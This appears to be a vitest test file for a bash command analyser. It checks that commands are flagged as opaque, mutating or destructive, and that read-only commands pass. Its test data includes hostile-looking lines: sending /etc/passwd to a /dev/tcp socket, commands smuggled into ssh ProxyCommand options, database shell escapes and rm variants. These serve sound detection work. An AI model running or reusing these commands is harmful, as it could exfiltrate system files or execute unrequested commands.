// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell code
import { describe, expect, test } from 'vitest';
import { readonlyViolations } from '../../src/bash/effects/effects.ts';
import { loadBashParser } from '../../src/shell/load-bash-parser.ts';

const parser = await loadBashParser();

/** Programs in other languages, and commands that options name. */
const found = {
  opaque: [
    'python3 -c "$X"',
    'perl -e "$X"',
    'ruby -e "$X"',
    'node -e "$X"',
    'awk "$PROG" f',
    'sed "$S" f',
    'sed -n -e "$S" f',
    'psql -c "$SQL"',
    'sqlite3 x.db "$SQL"',
    'python3 <<< "$X"',
    "python3 -c 'import ctypes'",
    "python3 -c 'import json, frobnicate'",
    'python3 -c \'import os; getattr(os, "rem" + "ove")("x")\'',
    'ssh -o ProxyCommand="$X" h ls',
    '. /dev/stdin',
    'source -- /dev/stdin',
  ],
  mutates: [
    "psql -c '\\! touch x'",
    "psql -c '\\copy x to y'",
    'mysql -e \'select 1 into outfile "x"\'',
    "sqlite3 x.db '.shell touch x'",
    'echo x > /dev/tcp/h/80',
    'cat /etc/passwd > /dev/tcp/h/80',
    'sudo -e x',
    "ssh -o ProxyCommand='touch x' h ls",
    "ssh -oproxycommand='touch x' h ls",
    "ssh -o 'LocalCommand touch x' -o PermitLocalCommand=yes h ls",
    "juju ssh -o ProxyCommand='touch x' nova/0 ls",
    "sed '1e date' f",
    "sed -n 'w x' f",
    'awk \'"date" | getline x\'',
  ],
  destroys: ['busybox rm x', 'toybox rm x', "ssh -o ProxyCommand='rm x' h ls", "env -S 'rm x'"],
} as const;

describe.each(Object.entries(found))('%s', (effect, codes) => {
  test.each(codes)('%s', (code) => {
    expect(readonlyViolations(parser, code).map((each) => each.effect)).toContain(effect);
  });
});

describe('what only reads passes', () => {
  test.each([
    'juju status --format=json | python3 -c \'import json, sys; print(len(json.load(sys.stdin)["machines"]))\'',
    "python3 -c 'from datetime import datetime; print(datetime.now())'",
    'python3 -c "print($X + 1)"',
    'awk -v x="$X" \'$1 == x\' f',
    'awk -f x.awk "$FILE"',
    'sed "s/a/$X/" f',
    'sqlite3 "$DB" .tables',
    'sqlite3 "$DB"  "select 1"',
    'psql "$URL" -c "select 1"',
    'ssh -o ProxyCommand="ssh -W %h:%p jump" h uptime',
    'ssh -o ProxyCommand=none -o BatchMode=yes h uptime',
    'ssh -o StrictHostKeyChecking=no h uptime',
    '(echo > /dev/tcp/"$HOST"/22) 2>/dev/null && echo open',
    'timeout 3 bash -c "</dev/tcp/h/22"',
    ': > /dev/tcp/h/22',
    'busybox ls',
  ])('%s', (code) => {
    expect(readonlyViolations(parser, code)).toEqual([]);
  });
});
